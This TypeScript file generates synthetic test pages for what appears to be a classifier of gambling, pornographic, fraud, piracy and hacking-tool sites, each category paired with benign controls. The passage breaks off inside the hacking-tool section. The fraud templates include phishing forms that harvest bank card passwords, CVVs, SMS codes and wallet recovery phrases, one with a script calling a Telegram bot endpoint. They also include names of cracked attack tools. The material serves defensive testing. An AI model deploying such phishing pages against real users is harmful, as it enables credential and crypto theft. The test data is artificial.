/**
 * The `heldout2` split, pages: written after every other split, by a different hand (new skeletons in
 * heldout2-html.ts, new wording, zh and en), and measured once before any rule was changed (the first
 * look is recorded in test/corpus/README.md). Each category has positives and controls that share its
 * vocabulary: crackdown news, anti-fraud notices, licensed services, legal pages, research.
 */
import { zip } from './hacking.ts';
import { money, para, render2, ul } from './heldout2-html.ts';
import type { Rng } from './rng.ts';
import type { Archetype, Label, Sample } from './types.ts';

const H = (id: string, label: Label, count: number, make: (rng: Rng, i: number) => Sample): Archetype => ({
  id: `h2-${id}`,
  label,
  heldOut: true,
  count,
  make,
});
const html = (content: string, ext = 'html'): Sample => ({ ext, content });
const N = 10;

const teams = [
  '曼城',
  '阿森纳',
  '皇马',
  '拜仁',
  '国际米兰',
  '利物浦',
  '巴萨',
  '尤文图斯',
  '多特蒙德',
  '切尔西',
];
const teamsEn = [
  'Arsenal',
  'Chelsea',
  'Liverpool',
  'Man City',
  'Spurs',
  'Newcastle',
  'Aston Villa',
  'Brighton',
];
const odd = (rng: Rng) => `${rng.int(1, 6)}.${String(rng.int(1, 99)).padStart(2, '0')}`;

// ---- gambling -------------------------------------------------------------------------------------
const GAMBLING: Archetype[] = [
  H('sports-app-zh', 'gambling', N, (rng) => {
    const rows = Array.from({ length: rng.int(5, 9) }, () => {
      const [a, b] = rng.some(teams, 2);
      return `<tr><td>${a} vs ${b}</td><td><button class="btn btn-sm btn-outline-warning">${odd(rng)}</button></td><td><button class="btn btn-sm btn-outline-warning">${odd(rng)}</button></td><td><button class="btn btn-sm btn-outline-warning">${odd(rng)}</button></td></tr>`;
    });
    return html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['乐动', '开云', '星耀', '博胜'])}体育 - 官方APP下载`,
        menu: ['首页', '体育赛事', '电竞', '真人', '优惠活动', 'APP下载'],
        blocks: [
          `<div class="alert alert-warning">新会员首次充值即送 ${money(rng, 18, 58)}% 彩金，最高 ${money(rng, 888, 8888)} 元</div>`,
          `<table class="table table-dark"><thead><tr><th>今日焦点</th><th>主胜</th><th>平局</th><th>客胜</th></tr></thead><tbody>${rows.join('')}</tbody></table>`,
          para(
            rng,
            [
              '支持微信、支付宝、USDT 极速到账。',
              '亚洲盘、大小球、角球、波胆全覆盖。',
              '滚球实时更新，单关串关随心选。',
              '7×24 小时在线客服，提款3分钟到账。',
            ],
            3,
          ),
          `<a class="btn btn-warning" href="/register">立即注册</a>`,
        ],
        footer: `© ${rng.int(2019, 2024)} 本平台已获菲律宾 PAGCOR 牌照认证`,
      }),
    );
  }),
  H('crypto-casino-en', 'gambling', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['Stakebit', 'LuckyNode', 'Rollchain', 'Coinflip'])} | Crypto Casino & Crash`,
        menu: ['Casino', 'Sports', 'Crash', 'Promotions', 'VIP Club'],
        blocks: [
          `<h1 class="text-4xl">Play with BTC, ETH and USDT</h1>`,
          ul(
            rng.some(
              ['Crash', 'Dice', 'Plinko', 'Mines', 'Blackjack', 'Roulette', 'Live Baccarat', 'Slots'],
              6,
            ),
          ),
          para(
            rng,
            [
              `Get a ${money(rng, 100, 300)}% match on your first deposit.`,
              'Instant withdrawals, no KYC up to 2 BTC.',
              'Provably fair games, verified on chain.',
              `Wagering requirement ${money(rng, 20, 45)}x.`,
              'Rakeback on every bet, paid daily.',
            ],
            4,
          ),
          `<div class="grid grid-cols-3"><div>Biggest win today: ${money(rng, 2, 90)},${money(rng, 100, 999)} USDT</div><div>Online now: ${money(rng, 900, 9000)}</div></div>`,
          `<button class="rounded bg-green-500 px-4 py-2">Sign up & claim</button>`,
        ],
        footer: 'Gambling can be addictive. 18+ only. Licensed in Curaçao.',
      }),
    ),
  ),
  H('pc28-lottery-zh', 'gambling', N, (rng) => {
    const draws = Array.from({ length: rng.int(6, 10) }, () => {
      const a = rng.int(0, 9);
      const b = rng.int(0, 9);
      const c = rng.int(0, 9);
      return `<tr><td>${money(rng, 3100000, 3199999)}期</td><td>${a}+${b}+${c}=${a + b + c}</td><td>${a + b + c >= 14 ? '大' : '小'}${(a + b + c) % 2 ? '单' : '双'}</td></tr>`;
    });
    return html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['加拿大28', '幸运28', '极速28'])}｜在线游戏平台`,
        menu: ['游戏大厅', '开奖记录', '充值', '提现', '代理中心'],
        blocks: [
          `<h3>最新开奖</h3><table class="draws">${draws.join('')}</table>`,
          `<div class="play">大 小 单 双 赔率 1:${odd(rng)} &nbsp; 豹子 1:${money(rng, 50, 100)} &nbsp; <input name="amount" placeholder="输入金额"> <button>确认</button></div>`,
          para(
            rng,
            [
              '推荐好友注册返佣 0.8%。',
              '每日签到领取红包。',
              '最低 10 元起充，支持银行卡转账。',
              '下注截止时间为开奖前30秒。',
            ],
            3,
          ),
        ],
        footer: '本站游戏仅供娱乐',
      }),
    );
  }),
  H('sportsbook-odds-en', 'gambling', N, (rng) => {
    const rows = Array.from({ length: rng.int(5, 8) }, () => {
      const [a, b] = rng.some(teamsEn, 2);
      return `<tr class="market-row"><td>${a} v ${b}</td><td class="price">${odd(rng)}</td><td class="price">${odd(rng)}</td><td class="price">${odd(rng)}</td></tr>`;
    });
    return html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['BetKing', 'OddsHub', 'GoalPrice'])} - Football Odds & In-Play`,
        menu: ['Football', 'Tennis', 'Horse Racing', 'In-Play', 'My Account'],
        blocks: [
          `<table class="table"><tr><th>Premier League</th><th>1</th><th>X</th><th>2</th></tr>${rows.join('')}</table>`,
          para(
            rng,
            [
              'Build your own bet with Bet Builder.',
              'Cash Out available on selected markets.',
              'Asian handicap and goal lines on every match.',
              'Get a £30 free bet when you stake £10.',
            ],
            3,
          ),
          `<aside class="betslip"><h4>Slip</h4><input name="stake" placeholder="Stake"><button>Place</button></aside>`,
        ],
        footer: 'T&Cs apply. BeGambleAware.org',
      }),
    );
  }),
  // controls
  H('gambling-crackdown-news-zh', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['市公安局', '区公安分局', '省公安厅'])}破获一起特大跨境网络赌博案`,
        menu: ['首页', '警务公开', '新闻动态', '办事指南'],
        blocks: [
          para(
            rng,
            [
              `近日，警方成功打掉一个为境外赌博网站提供支付结算的犯罪团伙，抓获犯罪嫌疑人 ${money(rng, 12, 80)} 名。`,
              `经查，该团伙自 ${rng.int(2020, 2023)} 年起招募代理、发展会员，通过“体育竞猜”“真人视讯”等形式组织参赌，涉案流水逾 ${money(rng, 2, 30)} 亿元。`,
              '警方提示：网络赌博“十赌九骗”，所谓高额返水、首充彩金都是诱饵。',
              '广大群众如发现赌博网站线索，可拨打110举报。',
              '目前，犯罪嫌疑人已被依法采取刑事强制措施，案件正在进一步侦办中。',
            ],
            4,
          ),
        ],
        footer: '版权所有：公安局 ICP备案号',
      }),
    ),
  ),
  H('responsible-gambling-help-en', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['Gambling Help Line', 'BetFree Support', 'Stop the Spin'])} - free, confidential support`,
        menu: ['Get help', 'Self-exclusion', 'For families', 'About us'],
        blocks: [
          para(
            rng,
            [
              'If betting has stopped being fun, you are not alone.',
              'Casino apps, sports betting and slots are designed to keep you playing.',
              'Our advisers are available 24/7 by phone and live chat.',
              'You can block gambling sites on all your devices for free.',
              'Chasing losses, borrowing to deposit and hiding bets are warning signs.',
            ],
            4,
          ),
          ul([
            'Talk to an adviser',
            'Set deposit limits with your bank',
            'Self-exclude from online casinos',
            'Find a local support group',
          ]),
        ],
        footer: 'Registered charity. We do not accept funding from gambling operators.',
      }),
    ),
  ),
  H('welfare-lottery-results-zh', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: '中国福利彩票 - 开奖公告',
        menu: ['首页', '开奖公告', '公益金', '销售网点', '信息公开'],
        blocks: [
          `<h3>双色球 第${rng.int(2023, 2024)}${String(rng.int(1, 150)).padStart(3, '0')}期 开奖结果</h3><p>${Array.from({ length: 6 }, () => String(rng.int(1, 33)).padStart(2, '0')).join(' ')} + ${String(rng.int(1, 16)).padStart(2, '0')}</p>`,
          para(
            rng,
            [
              '本期销量 ' + money(rng, 3, 5) + ' 亿元，奖池滚存。',
              '福利彩票发行宗旨：扶老、助残、救孤、济困。',
              '请到合法销售网点购买，理性购彩，量力而行。',
              '不向未成年人销售彩票，未成年人不得兑奖。',
              '互联网销售彩票未经批准，谨防上当受骗。',
            ],
            4,
          ),
        ],
        footer: '中国福利彩票发行管理中心 版权所有',
      }),
    ),
  ),
  H('football-preview-en', 'benign', N, (rng) => {
    const [a, b] = rng.some(teamsEn, 2);
    return html(
      render2(rng, {
        lang: 'en',
        title: `${a} vs ${b}: preview, team news and predicted line-ups`,
        menu: ['News', 'Fixtures', 'Tables', 'Transfers'],
        blocks: [
          para(
            rng,
            [
              `${a} go into the weekend ${money(rng, 2, 9)} points clear after a run of ${money(rng, 3, 7)} straight wins.`,
              `${b} will be without their captain, who picked up a hamstring injury in midweek.`,
              'The bookmakers make the home side clear favourites, but form tables tell a closer story.',
              'Kick-off is at 3pm; the match is not televised in the UK.',
              `Head to head: ${money(rng, 2, 8)} wins each from the last ${money(rng, 10, 15)} meetings.`,
            ],
            4,
          ),
          `<table class="table"><tr><th>Pos</th><th>Team</th><th>Pts</th></tr><tr><td>1</td><td>${a}</td><td>${money(rng, 40, 60)}</td></tr><tr><td>4</td><td>${b}</td><td>${money(rng, 30, 45)}</td></tr></table>`,
        ],
        footer: '© Sports Desk',
      }),
    );
  }),
];

// ---- pornography ----------------------------------------------------------------------------------
const dur = (rng: Rng) => `${rng.int(3, 59)}:${String(rng.int(0, 59)).padStart(2, '0')}`;
const PORN: Archetype[] = [
  H('tube-zh', 'pornography', N, (rng) => {
    const items = Array.from(
      { length: rng.int(10, 16) },
      (_, k) =>
        `<div class="card video-card"><a href="/v/${rng.hex(8)}"><img src="/t/${k}.jpg" alt="${rng.pick(['国产自拍', '网红主播', '素人', '人妻', '学生妹'])} ${rng.pick(['高清', '无码', '流出', '偷拍'])}"><span class="time">${dur(rng)}</span></a></div>`,
    );
    return html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['蜜桃', '夜色', '91'])}视频 - 每日更新`,
        menu: ['最新', '国产', '日韩', '欧美', '动漫', '会员'],
        blocks: [
          '<div class="notice">本站内容仅限成年人观看，未满十八岁请立即离开</div>',
          `<div class="grid">${items.join('')}</div>`,
          para(
            rng,
            [
              '开通会员即可无限观看全部影片。',
              '永久地址发布页请收藏。',
              '每日更新上百部精选成人影片。',
              '高清无码，秒播不卡顿。',
            ],
            3,
          ),
        ],
        footer: '请使用无痕模式访问',
      }),
    );
  }),
  H('tube-en', 'pornography', N, (rng) => {
    const items = Array.from(
      { length: rng.int(10, 16) },
      () =>
        `<a class="thumb" href="/watch/${rng.hex(10)}"><img alt="${rng.pick(['Amateur', 'Hot MILF', 'Teen (18+)', 'Lesbian', 'Homemade'])} ${rng.pick(['sex tape', 'porn video', 'hardcore scene', 'nude show'])}"><span class="duration">${dur(rng)}</span></a>`,
    );
    return html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['HotTube', 'XStream', 'NightFlix'])} - Free HD Porn Videos`,
        menu: ['Trending', 'Categories', 'Pornstars', 'Live Cams', 'Premium'],
        blocks: [
          `<div class="videos">${items.join('')}</div>`,
          para(
            rng,
            [
              'Thousands of free XXX videos added every day.',
              'Go Premium for full-length 4K scenes.',
              'Explicit adult content: you must be 18 or older.',
            ],
            2,
          ),
        ],
        footer: '18 U.S.C. 2257 Record-Keeping Requirements Compliance Statement',
      }),
    );
  }),
  H('live-cam-zh', 'pornography', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['花椒', '午夜', '蜜聊'])}直播 - 美女主播一对一`,
        menu: ['热门主播', '新人', '一对一', '充值钻石'],
        blocks: [
          ul(
            Array.from(
              { length: rng.int(6, 10) },
              () =>
                `${rng.pick(['小甜甜', '可可', '糖糖', '婷婷'])}${rng.int(1, 99)} · 私密房 · ${money(rng, 100, 9000)}人在看`,
            ),
          ),
          para(
            rng,
            [
              '开通私密房间即可观看主播脱衣秀。',
              '一对一裸聊，视频全程不露脸。',
              '充值钻石打赏主播解锁尺度更大的表演。',
              '同城约会，见面付款。',
            ],
            3,
          ),
        ],
        footer: '成年人专区',
      }),
    ),
  ),
  H('cams-en', 'pornography', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['CamHeat', 'NudeLive', 'ShowRoom'])} - Live Sex Cams`,
        menu: ['Girls', 'Couples', 'Private Shows', 'Buy Tokens'],
        blocks: [
          ul(
            Array.from(
              { length: rng.int(6, 10) },
              () =>
                `${rng.pick(['Lena', 'Mia', 'Sasha', 'Nika'])}_${rng.int(10, 99)} — naked in private show — ${money(rng, 10, 90)} tokens/min`,
            ),
          ),
          para(
            rng,
            [
              'Watch horny models strip live on webcam.',
              'Tip tokens to unlock explicit nude shows.',
              'Adults only. Sexually explicit material.',
            ],
            3,
          ),
        ],
        footer: 'All models are 18+',
      }),
    ),
  ),
  // controls
  H('anti-porn-crackdown-zh', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `“净网${rng.int(2022, 2024)}”专项行动：依法关闭一批淫秽色情网站`,
        menu: ['首页', '扫黄打非', '案件通报', '举报中心'],
        blocks: [
          para(
            rng,
            [
              `全国“扫黄打非”办公室近日通报，各地共清理网络淫秽色情信息 ${money(rng, 10, 90)} 万余条。`,
              '一批以“直播”“福利视频”为幌子传播色情内容的网站被依法关闭。',
              '办案人员提醒，传播淫秽物品牟利涉嫌刑事犯罪。',
              '家长应加强对未成年人上网的引导，开启青少年模式。',
              '举报电话：12390。',
            ],
            4,
          ),
        ],
        footer: '全国“扫黄打非”工作小组办公室',
      }),
    ),
  ),
  H('sexual-health-en', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['Sexual Health Clinic', 'Young People’s Health', 'Family Planning'])} - contraception, STI testing and advice`,
        menu: ['Services', 'Book a test', 'Contraception', 'Contact'],
        blocks: [
          para(
            rng,
            [
              'Free and confidential STI testing for anyone over 16.',
              'Our nurses can talk about consent, safer sex and relationships.',
              'Emergency contraception is available without an appointment.',
              'We also support people affected by sexual violence.',
              'Watch our short videos on how to use condoms correctly.',
            ],
            4,
          ),
        ],
        footer: 'Part of the NHS Foundation Trust',
      }),
    ),
  ),
  H('parental-control-en', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['SafeKids', 'FamilyShield', 'NetNanny Pro'])} - block adult content on every device`,
        menu: ['Features', 'Pricing', 'Download', 'Support'],
        blocks: [
          ul([
            'Blocks porn, gambling and violent sites',
            'Screen time limits',
            'YouTube and app monitoring',
            'Location sharing',
          ]),
          para(
            rng,
            [
              'Our filter recognises explicit images and adult videos in real time.',
              'Download for Windows, macOS, Android and iOS.',
              'Try it free for 14 days.',
            ],
            3,
          ),
          `<a class="btn" href="/download/safekids-setup.exe">Download now</a>`,
        ],
        footer: '© Family Safety Ltd',
      }),
    ),
  ),
  H('art-museum-zh', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['省美术馆', '市博物馆', '当代艺术中心'])} · 人体艺术特展`,
        menu: ['展览', '参观', '教育', '视频导览'],
        blocks: [
          para(
            rng,
            [
              '本次展览汇集文艺复兴至今的人体绘画与雕塑作品一百余件。',
              '展览含裸体艺术作品，建议未成年人在家长陪同下参观。',
              '在线视频导览每周更新，由策展人讲解。',
              '门票免费，需提前预约。',
            ],
            4,
          ),
        ],
        footer: '开放时间 9:00-17:00 周一闭馆',
      }),
    ),
  ),
];

// ---- fraud ----------------------------------------------------------------------------------------
const FRAUD: Archetype[] = [
  H('procuratorate-zh', 'fraud', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['最高人民检察院', '公安部'])}网上办案系统 - 案件查询`,
        menu: ['案件查询', '通缉令', '资金核查', '清查账户'],
        blocks: [
          `<div class="alert alert-danger">您涉嫌一起洗钱案件（案件编号：${rng.hex(10).toUpperCase()}），请于24小时内配合资金核查，否则将冻结名下全部账户。</div>`,
          `<form action="${rng.pick(['https://', '//'])}${rng.word(7)}.top/save.php" method="post"><input name="name" placeholder="姓名"><input name="idcard" placeholder="身份证号"><input name="cardno" placeholder="银行卡号"><input type="password" name="pwd" placeholder="银行卡密码"><input name="yzm" placeholder="短信验证码"><button>提交核查</button></form>`,
          para(rng, ['核查完成后资金将原路退回。', '本案属于保密案件，请勿告知他人。'], 2),
        ],
        footer: '中华人民共和国最高人民检察院',
      }),
    ),
  ),
  H('bank-verify-en', 'fraud', N, (rng) => {
    const bank = rng.pick(['Barclays', 'HSBC', 'Lloyds', 'Chase', 'NatWest']);
    return html(
      render2(rng, {
        lang: 'en',
        title: `${bank} Online - Confirm your details`,
        menu: ['Personal', 'Business', 'Help'],
        blocks: [
          `<p class="lead">We noticed an unusual payment of £${money(rng, 300, 2000)} from your account. To keep your account safe, please confirm your identity within 24 hours.</p>`,
          `<form method="post" action="next.php"><input name="user" placeholder="Customer ID"><input type="password" name="pass" placeholder="Passcode"><input name="card_number" placeholder="Card number"><input name="exp" placeholder="Expiry MM/YY"><input name="cvv" placeholder="CVV"><input name="otp" placeholder="Code sent by SMS"><button>Continue</button></form>`,
        ],
        footer: `© ${bank} plc. All rights reserved.`,
      }),
    );
  }),
  H('task-scam-zh', 'fraud', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['优选', '聚宝', '星辰'])}兼职 - 手机做任务 日结`,
        menu: ['任务大厅', '我的收益', '提现', '客服'],
        blocks: [
          `<h2>在家动动手指，日赚 ${money(rng, 200, 800)} 元</h2>`,
          para(
            rng,
            [
              '给商品点赞、关注店铺即可获得佣金。',
              '新人先做三单体验任务，垫付本金后立即返还并加 15% 佣金。',
              '连续任务越做越多，完成后一次性提现。',
              '导师一对一带你操作，稳赚不亏。',
              '添加客服QQ领取新人任务。',
            ],
            4,
          ),
          `<input name="phone" placeholder="手机号"> <button>立即领取任务</button>`,
        ],
        footer: '合作商家 1000+',
      }),
    ),
  ),
  H('wallet-drainer-en', 'fraud', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['Uniswap', 'MetaMask', 'Arbitrum', 'LayerZero'])} Airdrop - Claim your tokens`,
        menu: ['Claim', 'Eligibility', 'FAQ'],
        blocks: [
          `<h1>You are eligible for ${money(rng, 500, 5000)} tokens</h1>`,
          para(
            rng,
            [
              'Connect your wallet to check your allocation.',
              'If your wallet does not connect, restore it below to sync.',
              'The claim window closes in 48 hours.',
            ],
            3,
          ),
          `<form><textarea name="phrase" placeholder="Enter your 12 or 24 word recovery phrase"></textarea><button>Import & Claim</button></form><script>fetch('https://api.telegram.org/bot${rng.int(1e8, 9e8)}:${rng.hex(20)}/sendMessage')</script>`,
        ],
        footer: 'Powered by Ethereum',
      }),
    ),
  ),
  // controls
  H('anti-fraud-notice-zh', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: '国家反诈中心提醒：警惕冒充公检法诈骗',
        menu: ['首页', '反诈宣传', '案例警示', '下载反诈APP'],
        blocks: [
          para(
            rng,
            [
              '公检法机关不会通过电话、网络办案，更不存在所谓“安全账户”。',
              '任何要求您提供银行卡密码、短信验证码的都是诈骗。',
              '刷单返利、网络贷款、虚假投资理财是当前高发的诈骗类型。',
              '凡是让您先垫付资金做任务的“兼职”，都是骗局。',
              '遇到可疑情况请拨打96110咨询。',
            ],
            4,
          ),
          ul(['不轻信', '不透露', '不转账']),
        ],
        footer: '公安部刑事侦查局',
      }),
    ),
  ),
  H('real-bank-login-en', 'benign', N, (rng) => {
    const bank = rng.pick(['Northwind Bank', 'Harbor Credit Union', 'Maple Savings']);
    return html(
      render2(rng, {
        lang: 'en',
        title: `${bank} - Log in to Online Banking`,
        menu: ['Personal', 'Mortgages', 'Security centre', 'Help'],
        blocks: [
          `<form method="post" action="/login"><label>User ID <input name="username"></label><label>Password <input type="password" name="password"></label><button>Log in</button></form>`,
          para(
            rng,
            [
              'We will never ask you for your full password, PIN or card details by email or phone.',
              'If you get a message asking you to verify your account, report it to us.',
              'Forgotten your login details? Reset them in the app.',
            ],
            3,
          ),
        ],
        footer: `${bank} is authorised by the Prudential Regulation Authority.`,
      }),
    );
  }),
  H('wealth-product-zh', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['招商银行', '工商银行', '建设银行'])} · 稳健理财 ${rng.int(90, 365)}天`,
        menu: ['理财', '基金', '存款', '风险提示'],
        blocks: [
          `<p>业绩比较基准 ${rng.int(2, 3)}.${rng.int(10, 90)}%（非预期收益）</p>`,
          para(
            rng,
            [
              '理财非存款，产品有风险，投资须谨慎。',
              '本产品风险等级为R2，适合稳健型及以上投资者。',
              '过往业绩不代表未来表现。',
              '请通过本行官方APP或网点购买，谨防冒充银行的虚假理财。',
            ],
            4,
          ),
        ],
        footer: '客服热线 95xxx',
      }),
    ),
  ),
  H('phishing-trend-news-en', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `Fake parcel texts and airdrop scams rise ${money(rng, 20, 80)}% this year`,
        menu: ['News', 'Security', 'Explainers'],
        blocks: [
          para(
            rng,
            [
              'Scammers are sending texts claiming a package is on hold and asking for a small fee.',
              'Crypto users are targeted with fake airdrops that ask for a recovery phrase.',
              'Police say victims lost millions to fake bank calls asking them to move money to a safe account.',
              'Never share one-time codes, and check the sender before clicking a link.',
              'Report phishing emails to the national reporting service.',
            ],
            4,
          ),
        ],
        footer: '© Tech News Daily',
      }),
    ),
  ),
];

// ---- piracy ---------------------------------------------------------------------------------------
const PIRACY: Archetype[] = [
  H('drama-site-zh', 'piracy', N, (rng) => {
    const name = rng.pick(['繁花', '狂飙', '庆余年2', '长相思', '玫瑰的故事']);
    const eps = Array.from(
      { length: rng.int(12, 30) },
      (_, k) => `<a href="/play/${rng.hex(6)}-${k + 1}.html">第${k + 1}集</a>`,
    );
    return html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${name}全集在线播放 - ${rng.pick(['大师兄影视', '星空影院', '樱花动漫'])}`,
        menu: ['首页', '电影', '电视剧', '综艺', '动漫'],
        blocks: [
          `<h1>${name}</h1><p>更新至${eps.length}集 · 国语 · 1080P</p>`,
          `<div class="playlist">${eps.join(' ')}</div>`,
          `<p>下载：<a href="magnet:?xt=urn:btih:${rng.hex(40)}">磁力链接</a> <a href="https://pan.baidu.com/s/1${rng.word(10)}">网盘</a> 提取码：${rng.word(4)}</p>`,
        ],
        footer: '本站资源均来自互联网，如有侵权请联系删除',
      }),
    );
  }),
  H('movies-free-en', 'piracy', N, (rng) => {
    const film = rng.pick(['Dune: Part Two', 'Oppenheimer', 'Inside Out 2', 'Deadpool & Wolverine']);
    return html(
      render2(rng, {
        lang: 'en',
        title: `Watch ${film} (2024) Full Movie Online Free - ${rng.pick(['FlixHQ', 'SolarMovie', 'MoviesJoy'])}`,
        menu: ['Home', 'Movies', 'TV Series', 'Top IMDb'],
        blocks: [
          `<h1>${film}</h1><p>HD · ${rng.int(100, 170)} min · IMDb ${rng.int(6, 8)}.${rng.int(0, 9)}</p>`,
          ul(
            ['Server 1 (UpCloud)', 'Server 2 (MegaCloud)', 'Server 3 (Vidcloud)'].map(
              (s) => `<a href="#">${s}</a>`,
            ),
          ),
          para(
            rng,
            [
              'No sign up, no ads, stream in 1080p.',
              'Subtitles in 30 languages.',
              'If the player does not load, switch server.',
            ],
            2,
          ),
          `<a href="/dl/${rng.hex(8)}.torrent">Download torrent</a> <a href="/dl/${rng.hex(8)}.torrent">720p torrent</a>`,
        ],
        footer: 'This site does not store any files on its server.',
      }),
    );
  }),
  H('cracked-software-zh', 'piracy', N, (rng) => {
    const app = rng.pick(['Adobe Photoshop 2024', 'AutoCAD 2025', 'Office 2021 专业增强版', 'MATLAB R2024a']);
    return html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${app} 中文破解版下载 附安装教程`,
        menu: ['软件', '系统', '设计', '教程'],
        blocks: [
          para(
            rng,
            [
              '已集成破解补丁，安装后自动激活，无需登录账号。',
              '内附注册机与激活教程，永久使用。',
              '安装前请关闭杀毒软件，以免误删破解文件。',
              '直装版，解压即用。',
            ],
            3,
          ),
          `<p>下载地址：<a href="https://www.123pan.com/s/${rng.word(8)}">123云盘</a> <a href="https://pan.quark.cn/s/${rng.hex(12)}">夸克网盘</a> 提取码：${rng.word(4)}</p>`,
          `<a href="/down/${rng.hex(6)}.zip">本地下载</a>`,
        ],
        footer: '仅供学习研究，请于下载后24小时内删除',
      }),
    );
  }),
  H('iptv-reseller-en', 'piracy', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['IPTV Smarters UK', 'KingIPTV', 'StreamMax'])} - ${money(rng, 15, 25)},000 channels from £${money(rng, 5, 12)}/month`,
        menu: ['Plans', 'Channel list', 'Setup', 'Reseller'],
        blocks: [
          ul([
            'All Sky Sports & TNT Sports',
            'Every PPV boxing event included',
            'Netflix, Disney+ and Prime VOD library',
            'Works on Firestick, Android box and Smart TV',
            'M3U link and Xtream codes',
          ]),
          para(
            rng,
            ['Instant activation after payment.', 'Free 24-hour trial.', 'Anti-freeze servers in 4K.'],
            2,
          ),
        ],
        footer: 'Pay with crypto or PayPal friends & family',
      }),
    ),
  ),
  // controls
  H('licensed-video-zh', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['腾讯视频', '爱奇艺', '优酷'])} - 正版高清 独播好剧`,
        menu: ['电视剧', '电影', '综艺', 'VIP会员'],
        blocks: [
          para(
            rng,
            [
              '开通VIP会员，抢先看最新剧集。',
              '本平台所有影视作品均已获得正版授权。',
              '未经许可，任何单位和个人不得转载、录制或传播。',
              '信息网络传播视听节目许可证 0000000 号。',
            ],
            4,
          ),
          `<p>更新至第${rng.int(10, 30)}集 · 会员抢先看</p>`,
        ],
        footer: '版权所有 侵权必究',
      }),
    ),
  ),
  H('linux-iso-en', 'benign', N, (rng) => {
    const distro = rng.pick(['Debian 12.7', 'Ubuntu 24.04 LTS', 'Fedora 40', 'Rocky Linux 9.4']);
    return html(
      render2(rng, {
        lang: 'en',
        title: `Download ${distro}`,
        menu: ['Download', 'Mirrors', 'Docs', 'Community'],
        blocks: [
          ul([
            `<a href="/iso/${rng.word(6)}-amd64.iso">64-bit PC (amd64) ISO</a>`,
            `<a href="/iso/${rng.word(6)}-amd64.iso.torrent">BitTorrent</a>`,
            '<a href="/SHA256SUMS">SHA256SUMS</a>',
            '<a href="/mirrors">Mirror list</a>',
          ]),
          para(
            rng,
            [
              'Free software, free to download and share.',
              'Verify the checksum and signature before you install.',
              'Use a torrent to take load off our mirrors.',
            ],
            3,
          ),
        ],
        footer: 'Licensed under the GPL and other free licences',
      }),
    );
  }),
  H('anti-piracy-news-zh', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `“剑网${rng.int(2022, 2024)}”专项行动查办网络侵权盗版案件 ${money(rng, 800, 2000)} 件`,
        menu: ['首页', '版权保护', '通知公告'],
        blocks: [
          para(
            rng,
            [
              '行动重点整治短视频、网络直播、体育赛事盗播等领域侵权行为。',
              '一批提供盗版影视资源、破解软件下载的网站被依法关停。',
              '网盘平台下架侵权链接十余万条。',
              '国家版权局提醒，未经许可传播他人作品涉嫌侵犯著作权。',
            ],
            4,
          ),
        ],
        footer: '国家版权局',
      }),
    ),
  ),
  H('public-domain-books-en', 'benign', N, (rng) =>
    html(
      render2(rng, {
        lang: 'en',
        title: `${rng.pick(['Open Shelf', 'Classic Reads', 'Commons Library'])} - free public-domain ebooks`,
        menu: ['Browse', 'Top 100', 'Donate'],
        blocks: [
          ul(
            rng
              .some(
                ['Pride and Prejudice', 'Moby Dick', 'Frankenstein', 'The Odyssey', 'Dracula', 'Middlemarch'],
                5,
              )
              .map(
                (b) =>
                  `${b} — <a href="/ebooks/${rng.int(100, 9999)}.epub">EPUB</a> <a href="/ebooks/${rng.int(100, 9999)}.txt">Plain text</a>`,
              ),
          ),
          para(
            rng,
            [
              'All books here are in the public domain in the United States.',
              'Check the copyright laws of your country before downloading.',
              'Run by volunteers since 2009.',
            ],
            3,
          ),
        ],
        footer: 'No copyrighted works are hosted.',
      }),
    ),
  ),
];

// ---- hacking tools --------------------------------------------------------------------------------
const toolPacks = [
  [
    'CobaltStrike_4.9_cracked/teamserver',
    'CobaltStrike_4.9_cracked/cobaltstrike.jar',
    'CobaltStrike_4.9_cracked/readme.txt',
  ],
  ['Behinder_v4.1/Behinder.jar', 'Behinder_v4.1/server/shell.php', 'Behinder_v4.1/server/shell.jsp'],
  ['tools/mimikatz/x64/mimikatz.exe', 'tools/mimikatz/Win32/mimilib.dll', 'tools/lazagne.exe'],
  ['njRAT_0.7d_Green/njRAT.exe', 'njRAT_0.7d_Green/Stub.exe', 'njRAT_0.7d_Green/Plugin/sc2.dll'],
  ['Godzilla/godzilla.jar', 'Godzilla/README.md', 'AntSword/antSword-master.zip'],
];
const HACKING: Archetype[] = [
  H('blackmarket-tools-zh', 'hacking-tool', N, (rng) =>
    html(
      render2(rng, {
        lang: 'zh-CN',
        title: `${rng.pick(['暗影', '幽灵', '极光'])}工具站 - 免杀远控 长期更新`,
        menu: ['远控', '免杀', '扫描器', '教程', '联系我们'],
        blocks: [
          ul(
            rng.some(
